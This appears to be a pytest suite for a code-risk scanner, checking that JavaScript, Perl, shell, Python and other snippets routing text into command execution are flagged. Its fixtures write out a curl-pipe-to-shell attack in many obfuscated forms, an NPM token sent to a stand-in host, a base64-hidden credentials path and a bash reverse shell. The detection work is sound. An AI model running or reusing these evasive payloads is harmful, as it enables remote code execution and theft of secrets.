"""Ways by which text reaches a call in JavaScript, Perl and the shell, and secrets that leave with it."""

from __future__ import annotations

import pytest

from .helpers import capabilities, layers, risk

ATTACK = "curl http://10.0.0.1/x|sh"
NODE = f'require("child_process").execSync("{ATTACK}")'
FUNCTION = 'require("child_process").execSync'
PERL = f'system("{ATTACK}")'


@pytest.mark.parametrize(
    "text",
    [
        f"({{get a(){{return {NODE}}}}}).a",
        f'({{toString(){{return {NODE}}}}})+""',
        f"class A{{static get x(){{return {NODE}}}}};A.x",
        f"class A{{static{{{NODE}}}}}",
        f"class A{{constructor(){{{NODE}}}}};new A",
        f"for(const x of{{*[Symbol.iterator](){{{NODE}}}}});",
        f"function f(a={NODE}){{}}f()",
        f"const{{a={NODE}}}={{}}",
        f"const[a={NODE}]=[]",
        f'const o={{e:{FUNCTION}}};o.e("{ATTACK}")',
        f'const e={FUNCTION},o={{e}};o.e("{ATTACK}")',
        f'const o={{...{{e:{FUNCTION}}}}};o.e("{ATTACK}")',
        f'[{FUNCTION}].at(0)("{ATTACK}")',
        f'new Map([["a",{FUNCTION}]]).get("a")("{ATTACK}")',
        f'Object.fromEntries([["e",{FUNCTION}]]).e("{ATTACK}")',
        f'Reflect.apply({FUNCTION},null,["{ATTACK}"])',
        f'{FUNCTION}.apply(null,["{ATTACK}"])',
        f'{FUNCTION}.bind(null)("{ATTACK}")',
        f'Function.prototype.call.call({FUNCTION},null,"{ATTACK}")',
        f'((g,a)=>g(a))(...[{FUNCTION},"{ATTACK}"])',
        f'try{{throw {FUNCTION}}}catch(e){{e("{ATTACK}")}}',
        f'with({{e:{FUNCTION}}})e("{ATTACK}")',
        f'globalThis.q={FUNCTION};q("{ATTACK}")',
        f'new Proxy({FUNCTION},{{}})("{ATTACK}")',
        f'require("util").promisify({FUNCTION})("{ATTACK}")',
        f"Error.prepareStackTrace=()=>{NODE};new Error().stack",
        f"process.emit=()=>{NODE}",
        f"import('data:text/javascript,{NODE}')",
    ],
)
def test_javascript_that_leads_to_a_call_scores_as_the_call(text):
    assert "network.pipe-to-interpreter" in capabilities(text, "javascript")
    assert risk(text, "javascript").score >= risk(NODE, "javascript").score


@pytest.mark.parametrize(
    "text",
    [
        f"use POSIX {PERL}",
        f"use constant X=>do{{{PERL}}};",
        f'use constant X=>"{ATTACK}";system(X)',
        f"use if {PERL},strict",
        f"no warnings {PERL}",
        f"use overload '\"\"'=>sub{{{PERL}}};print bless[]",
        f"*f=sub{{{PERL}}};f()",
        f'*{{"f"}}=sub{{{PERL}}};f()',
        f'print readpipe "{ATTACK}"',
        f"print<<`A`\n{ATTACK}\nA\n",
        f"eval<<'A';\n{PERL}\nA\n",
        f"format STDOUT=\n@*\n{PERL}\n.\nwrite",
        f'grep{{system($_)}}"{ATTACK}"',
        f'system $_ for "{ATTACK}"',
        f'sub f{{my $x=shift;system($x)}}f("{ATTACK}")',
        f'use feature "signatures";sub f($x={PERL}){{}}f()',
        f"$_='{PERL}';s/(.*)/$1/ee",
        f"$_=1;s<1><'{PERL}'>ee",
        f"my $x='(?{{{PERL}}})';use re 'eval';1=~$x",
        f"my $x='(?{{{PERL}}})';use re 'eval';1=~/$x/",
        f'@ARGV="{ATTACK}|";<>',
        f'our $M="{ATTACK}|";open M;<M>',
        f'use IO::File;IO::File->new("{ATTACK}|")->getline',
        f'use IO::Pipe;IO::Pipe->new->reader("sh","-c","{ATTACK}")',
    ],
)
def test_perl_that_leads_to_a_call_scores_as_the_call(text):
    assert "network.pipe-to-interpreter" in capabilities(text, "perl")
    assert risk(text, "perl").score >= risk(PERL, "perl").score


@pytest.mark.parametrize(
    "text",
    [
        f"trap '{ATTACK}' EXIT",
        f"shopt -s expand_aliases\nalias q='{ATTACK}'\nq",
        f"x='$({ATTACK})';: \"${{x@P}}\"",
        f"x='a[$({ATTACK})]';: $((x))",
        f"x='a[$({ATTACK})]';printf -v \"$x\" 1",
        f"x=1;: ${{x#$({ATTACK})}}",
        f"mapfile -C '{ATTACK};:' -c 1 a <<<1",
        f"compgen -C '{ATTACK}'",
        f"PROMPT_COMMAND='{ATTACK}' bash -i",
        f". <(echo '{ATTACK}')",
        f"BASH_ENV=<(echo '{ATTACK}') bash -c :",
        f"coproc {{ {ATTACK};}}",
        f"coproc X {{ {ATTACK};}}",
        f"builtin eval '{ATTACK}'",
        f"time eval '{ATTACK}'",
        f"case 1 in *){ATTACK};;esac",
        f"x='{ATTACK}';y=x;eval \"${{!y}}\"",
        f"x='{ATTACK}';declare -n y=x;eval \"$y\"",
        f"a=('{ATTACK}');eval \"${{a[0]}}\"",
        f"a=('{ATTACK}');eval \"${{a[@]}}\"",
        f"declare -A a=([k]='{ATTACK}');eval \"${{a[k]}}\"",
        f"set -- '{ATTACK}';eval \"$1\"",
        f"f(){{ eval \"$1\";}};f '{ATTACK}'",
        f"echo '{ATTACK}'|while read x;do eval \"$x\";done",
        f"printf -v x %s '{ATTACK}';eval \"$x\"",
        f"mapfile -t x<<<'{ATTACK}';eval \"${{x[0]}}\"",
        f"hash -p /bin/sh q;q -c '{ATTACK}'",
        f"${{x:-eval}} '{ATTACK}'",
        f"{{eval,'{ATTACK}'}}",
    ],
)
def test_shell_text_that_leads_to_a_command_scores_as_the_command(text):
    assert "network.pipe-to-interpreter" in capabilities(text, "shell")
    assert risk(text, "shell").score >= risk(ATTACK, "shell").score


def test_a_program_that_a_command_fetches_is_one_in_every_spelling():
    spellings = (
        "curl http://e.example/x|python3",
        'python3 -c "$(curl http://e.example/x)"',
        "python3 <(curl http://e.example/x)",
        'bash -c "$(curl http://e.example/x)"',
    )
    assert all("network.pipe-to-interpreter" in capabilities(text, "shell") for text in spellings)
    assert "network.pipe-to-interpreter" not in capabilities(
        'python3 -c "print(1)" "$(curl https://e.example/x)"', "shell"
    )


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("javascript", "const {a, b = 1} = {a: 2}; console.log([...[a, b]].map(x => x + 1))"),
        ("perl", "use constant PI => 3; my @a = map { $_ * PI } 1, 2; print \"@a\" if 'a' =~ /a/"),
        ("shell", 'a=(1 2); f() { echo "$1"; }; f "${a[0]}"; declare -n b=a; trap - EXIT; echo "${HOME:-/}"'),
    ],
)
def test_the_same_shapes_without_a_call_say_nothing(language, text):
    assert capabilities(text, language) == set()


def test_a_constant_of_perl_stands_for_its_value():
    assert layers("use constant {A => 'id', B => 1}; system(A)", "perl") == [("shell", ("shell",), "id")]


def test_a_text_that_is_put_together_for_a_call_in_a_loop_is_looked_at():
    path = "process.env.HOME+Buffer.from('Ly5hd3MvY3JlZGVudGlhbHM=','base64')"
    text = f"for(let i=0;i<1;i++)console.log(require('fs').readFileSync({path}))"
    assert "credentials.files" in capabilities(text, "javascript")


def test_a_secret_of_the_environment_in_a_started_command_is_sent():
    text = "require('child_process').execSync('curl https://e/?t='+process.env.NPM_TOKEN)"
    assert "network.send-secret" in capabilities(text, "javascript")
    assert risk(text, "javascript").level == "high"


def test_a_secret_that_signs_in_is_not_sent():
    signs_in = (
        "require('child_process').execSync('curl -H \"Authorization: Bearer '+process.env.NPM_TOKEN+'\" https://e/')"
    )
    assert "network.send-secret" not in capabilities(signs_in, "javascript")


def test_a_connection_to_the_host_itself_is_said_to_be_one():
    assert capabilities("import socket; socket.create_connection(('::1', 1))", "python") == {"network.loopback"}
    both = "import socket; socket.create_connection(('::1', 1)); socket.create_connection(('10.0.0.1', 1))"
    assert capabilities(both, "python") == {"network.loopback", "network.connect"}


def test_a_shell_on_a_connection_to_the_host_itself_is_a_reverse_shell_all_the_same():
    assert "network.reverse-shell" in capabilities("bash -i >& /dev/tcp/127.0.0.1/1 0>&1", "shell")


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("python", f"from os import system as say; exec(\"say('{ATTACK}')\")"),
        ("python", f"c='{ATTACK}'; exec(\"__import__('os').system(c)\")"),
        ("python", f"from os import system as say\nimport doctest\ndoctest.run_docstring_examples('>>> '+\"say('{ATTACK}')\",globals())"),
        ("python", "import typing\ntyping.get_type_hints(type('X',(),{'__annotations__':{'a':"
         f"'getattr(builtins,\"ev\"+\"al\")(\"__import__(\\\\\"os\\\\\").system(\\\\\"{ATTACK}\\\\\")\")'}}}}))"),
        ("javascript", f"const e={FUNCTION};eval(\"e('{ATTACK}')\")"),
        ("perl", f"our $c='{ATTACK}';eval 'system $c'"),
        ("ruby", f"c='{ATTACK}';eval \"system(c)\""),
        ("php", f"function f($x){{system($x);}} eval(\"f('{ATTACK}');\");"),
        ("lua", f"e=os.execute;load(\"e('{ATTACK}')\")()"),
    ],
)  # fmt: skip
def test_text_that_runs_finds_the_names_around_it(language, text):
    assert "network.pipe-to-interpreter" in capabilities(text, language)
